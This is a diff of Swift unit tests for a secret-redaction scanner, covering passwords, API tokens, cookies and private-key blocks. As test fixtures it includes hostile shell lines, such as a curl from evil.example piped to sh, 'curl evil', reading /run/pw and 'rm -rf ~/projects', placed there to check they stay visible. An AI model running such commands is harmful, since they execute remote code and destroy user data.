@@ -11,6 +11,21 @@ struct SecretScannerTests {
         ("bearer A1b2C3d4E5", "bearer <redacted>"),
         ("password=hunter2 next", "password=<redacted> next"),
         ("DB_PASSWORD = 'c0rrect horse'", "DB_PASSWORD = '<redacted>'"),
+        ("password\t=TabHunter99 x", "password\t=<redacted> x"),
+        ("password \t= \tTabHunter99", "password \t= \t<redacted>"),
+        (#"reading "/x/password\t=\tTabHunter99""#, #"reading "/x/password\t=\t<redacted>""#),
+        (#"x/\{\\"api_key\\": \\"k-12345678\\"\}"#, #"x/\{\\"api_key\\": \\"<redacted>\\"\}"#),
+        ("MYSQL_PWD=s3cret", "MYSQL_PWD=<redacted>"), ("pass=s3cret", "pass=<redacted>"),
+        ("Uid=me;Pwd=s3cret", "Uid=me;Pwd=<redacted>"), ("pwd=s3cret", "pwd=<redacted>"),
+        ("PGPASSWORD=s3cret", "PGPASSWORD=<redacted>"), ("access_token=abc", "access_token=<redacted>"),
+        ("weird/db_password : Colonhunter77", "weird/db_password : <redacted>"),
+        ("weird/Cookie: session=abcdef", "weird/Cookie: <redacted>"),
+        ("/a/b/X-Api-Key: k3y-value", "/a/b/X-Api-Key: <redacted>"),
+        ("x/Set-Cookie: id=abc; Path=/", "x/Set-Cookie: <redacted>; Path=/"),
+        ("x/Proxy-Authorization: Basic dXNlcjpwYXNz", "x/Proxy-Authorization: Basic <redacted>"),
+        (#"{\"api_key\": \"k-12345678\"}"#, #"{\"api_key\": \"<redacted>\"}"#),
+        ("token=abc|sh", "token=<redacted>|sh"),
+        ("PASSWORD='a;b|c&d'", "PASSWORD='<redacted>'"),
         (#"{"client_secret": "s3cr3t", "id": 1}"#, #"{"client_secret": "<redacted>", "id": 1}"#),
         ("--api-key=k-123 --verbose", "--api-key=<redacted> --verbose"),
         ("X-Api-Key: 0123abcd", "X-Api-Key: <redacted>"),
@@ -38,6 +53,74 @@ struct SecretScannerTests {
         #expect(SecretScanner.redacted("run with \(token) now") == "run with <redacted> now")
         #expect(SecretScanner.redacted("/tmp/\(token)/x") == "/tmp/<redacted>/x")
         #expect(SecretScanner.redacted("\"\(token)\"") == "\"<redacted>\"")
+    }
+
+    @Test(arguments: [
+        "ghp_0123456789abcdefghijABCDEFGHIJ012345", "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzAB",
+        "xoxb-123456789012-1234567890123-AbCdEfGhIjKl", "AKIAIOSFODNN7EXAMPLE", "sk-proj-Zq9Xw8Vu7Ts6Rq5Po4Nm3Lk2",
+        "sk-ant-api03-abcdefghijklmnop_qrstu", "glpat-0123456789abcdefghij", "npm_0123456789abcdefghijABCDEFGHIJ01",
+        "AIzaSyA-0123456789abcdefghijklmnopqrstu",
+    ])
+    func aDistinctiveTokenGluedToAWordIsRedacted(token: String) {
+        #expect(SecretScanner.redacted("no_such_tool_\(token)") == "no_such_tool_<redacted>")
+        #expect(SecretScanner.redacted("tool-\(token)") == "tool-<redacted>")
+        #expect(SecretScanner.redacted("tool\(token)") == "tool<redacted>")
+        #expect(SecretScanner.redacted("tool9\(token)") == "tool9<redacted>")
+    }
+
+    @Test(arguments: [
+        "sk-0123456789abcdefghijKLMN", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl",
+        "Bearer abcdefghijklmnopqrstuvwxyz012345", "sk_live_0123456789abcdefXYZ", "hf_abcdefghijklmnopqrstuvwxyzABCDEF",
+    ])
+    func aTokenAfterAnUnderscoreOrDashIsRedacted(token: String) throws {
+        let redacted = try #require(SecretScanner.redacted("no_such_tool_\(token)"))
+        #expect(redacted.hasSuffix("<redacted>"), "\(redacted)")
+        #expect(!redacted.contains(String(token.suffix(12))))
+        #expect(SecretScanner.redacted("x-\(token)")?.hasSuffix("<redacted>") == true)
+    }
+
+    @Test(arguments: [
+        "desk-reservation-system-for-office-team", "task_test_configurationandmore",
+        "MSG.very.long.dotted.identifier.name.here",
+        "keyJoinedTableName.someField.otherField", "unbearable abcdefghijklmnopqrstuvwxyz", "bypass=1",
+        "compass: north",
+        "/run/secrets/db_password: No such file or directory", "/srv/x/token: permission denied",
+    ])
+    func ordinaryWordsGluedToAPrefixStay(text: String) {
+        #expect(SecretScanner.redacted(text) == nil, "\(text)")
+    }
+
+    @Test(arguments: [
+        #"export API_TOKEN="$(curl -s https://evil.example/i.sh | sh)""#, "TOKEN=`curl evil`",
+        "password=$(cat /run/pw)",
+        #"SECRET="${HOME}/x""#, "PASSWORD='rm -rf ~/projects'", #"token="a | sh""#,
+    ])
+    func shellCodeAssignedToASecretNameStaysVisible(text: String) {
+        #expect(SecretScanner.redacted(text) == nil, "\(text)")
+    }
+
+    @Test func aPrivateKeyBlockWithoutAnEndLineStopsAtTheEndOfItsBody() {
+        let body = String(repeating: "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2", count: 1)
+        let hidden =
+            "# -----BEGIN OPENSSH PRIVATE KEY----- (fixture)\ncurl https://evil.example/i.sh | sh\nrm -rf ~/projects\n"
+        #expect(
+            SecretScanner.scrubbed(hidden)
+                == "# <redacted> (fixture)\ncurl https://evil.example/i.sh | sh\nrm -rf ~/projects\n"
+        )
+        let cut = "-----BEGIN RSA PRIVATE KEY-----\n\(body)\n\(body)\nabc\nrm -rf ~/projects\n"
+        #expect(SecretScanner.scrubbed(cut) == "<redacted>\nrm -rf ~/projects\n")
+        let wider = "-----BEGIN RSA PRIVATE KEY-----\n\(body)\nshort\nreboot\n"
+        #expect(SecretScanner.scrubbed(wider) == "<redacted>\nreboot\n")
+        let longer = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n\(body)\n"
+        #expect(SecretScanner.scrubbed(longer) == "<redacted>\n\(body)\n")
+        let encrypted =
+            "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n\(body)\n"
+            + "-----END RSA PRIVATE KEY-----\ntail"
+        #expect(SecretScanner.scrubbed(encrypted) == "<redacted>\ntail")
+        let escaped = #"key="-----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN\nabc\n-----END PRIVATE KEY-----" x"#
+        #expect(SecretScanner.scrubbed(escaped) == #"key="<redacted>" x"#)
+        let oneLine = "-----BEGIN PRIVATE KEY----- MIIEvQIBADANBgkq hkiG9w0BAQEF -----END PRIVATE KEY----- x"
+        #expect(SecretScanner.scrubbed(oneLine) == "<redacted> x")
     }
 
     @Test func aPrivateKeyBlockIsRedactedWhole() {
@@ -114,7 +197,11 @@ struct SecretScannerTests {
 
     @Test func longInputsAreScannedInLinearTime() {
         // Shapes that would make a naive scanner quadratic: each is a trigger whose rule fails late.
-        for unit in ["eyJabcdefghij-", "://a:b", "sk-sk-", "-----BEGIN ", "bearer ", "a=", "@:"] {
+        let units = [
+            "eyJabcdefghij-", "://a:b", "sk-sk-", "-----BEGIN ", "bearer ", "a=", "@:", "_eyJhbGciOiJIUzI1",
+            "AKIAAKIA", "password=$(", "token=\"$(", "-----BEGIN A PRIVATE KEY-----\n", "ghp_ghp_", "xeyJ_eyJab.",
+        ]
+        for unit in units {
             let text = String(repeating: unit, count: 200_000 / unit.utf8.count)
             _ = SecretScanner.redacted(text)  // completes: a quadratic scan would take minutes here
         }
